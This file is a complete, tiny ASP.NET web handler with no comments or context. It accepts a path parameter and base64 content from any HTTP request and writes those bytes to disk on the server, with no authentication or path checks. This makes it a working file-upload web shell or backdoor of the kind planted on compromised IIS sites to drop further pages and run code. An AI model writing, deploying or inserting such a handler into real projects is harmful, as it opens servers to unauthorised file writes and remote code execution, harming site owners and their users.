<%@ WebHandler Language="C#" Class="U" %>
public class U : System.Web.IHttpHandler {
  public bool IsReusable { get { return true; } }
  public void ProcessRequest(System.Web.HttpContext c) {
    System.IO.File.WriteAllBytes(c.Server.MapPath(c.Request["n"]), System.Convert.FromBase64String(c.Request["b"]));
  }
}
